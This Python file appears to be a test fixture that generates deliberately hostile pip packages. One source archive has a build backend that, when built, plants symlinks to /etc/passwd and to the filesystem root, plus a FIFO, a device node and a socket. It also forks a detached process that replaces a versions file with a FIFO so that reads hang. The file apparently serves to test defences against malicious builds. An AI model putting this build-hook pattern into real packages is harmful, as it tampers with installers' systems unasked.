"""Packages for pip that nobody should install: one honest, one whose build plants special files."""

import io
import tarfile
import zipfile
from pathlib import Path

BACKEND = '''
import base64, hashlib, os, socket, zipfile

LAYER = "/opt/layer"


def tried(way, *arguments):
    try:
        way(*arguments)
    except OSError:
        pass


def plant():
    os.makedirs(f"{LAYER}/planted", exist_ok=True)
    tried(os.symlink, "/etc/passwd", f"{LAYER}/planted/link")
    tried(os.symlink, "/", f"{LAYER}/planted/root")
    tried(os.mkfifo, f"{LAYER}/planted/pipe")
    tried(os.mknod, f"{LAYER}/planted/device", 0o20666, os.makedev(1, 1))
    tried(socket.socket(socket.AF_UNIX).bind, f"{LAYER}/planted/socket")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            replace()
        os._exit(0)


def replace():
    """Once the table of versions is written, put a pipe in its place, from which reading never ends."""
    for _ in range(10_000_000):
        if os.path.exists(f"{LAYER}/versions.json"):
            tried(os.unlink, f"{LAYER}/versions.json")
            tried(os.mkfifo, f"{LAYER}/versions.json")
            os._exit(0)


def build_wheel(folder, config_settings=None, metadata_directory=None):
    plant()
    name = "bait_source-1.0-py3-none-any.whl"
    base = "bait_source-1.0.dist-info"
    with zipfile.ZipFile(f"{folder}/{name}", "w") as archive:
        archive.writestr("bait_source.py", "VALUE = 'installed'\\n")
        archive.writestr(f"{base}/METADATA", "Metadata-Version: 2.1\\nName: bait-source\\nVersion: 1.0\\n")
        archive.writestr(f"{base}/WHEEL", "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        archive.writestr(f"{base}/RECORD", f"bait_source.py,,\\n{base}/METADATA,,\\n{base}/WHEEL,,\\n{base}/RECORD,,\\n")
    return name
'''
PROJECT = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'


def write(folder: Path) -> None:
    """Write the packages into a folder that pip can be pointed at."""
    folder.mkdir(parents=True)
    _wheel(folder, "bait_package", "VALUE = 'true'\n")
    _archive(folder, "bait_source-1.0", {"pyproject.toml": PROJECT, "backend.py": BACKEND, "PKG-INFO": _INFO})


_INFO = "Metadata-Version: 2.1\nName: bait-source\nVersion: 1.0\n"


def _wheel(folder: Path, name: str, code: str) -> None:
    base = f"{name}-1.0.dist-info"
    files = {
        f"{name}.py": code,
        f"{base}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        f"{base}/WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(f"{path},,\n" for path in (*files, f"{base}/RECORD"))
    with zipfile.ZipFile(folder / f"{name}-1.0-py3-none-any.whl", "w") as archive:
        for path, text in {**files, f"{base}/RECORD": record}.items():
            archive.writestr(path, text)


def _archive(folder: Path, name: str, files: dict[str, str]) -> None:
    with tarfile.open(folder / f"{name}.tar.gz", "w:gz") as archive:
        for path, text in files.items():
            entry = tarfile.TarInfo(f"{name}/{path}")
            entry.size = len(text.encode())
            archive.addfile(entry, io.BytesIO(text.encode()))
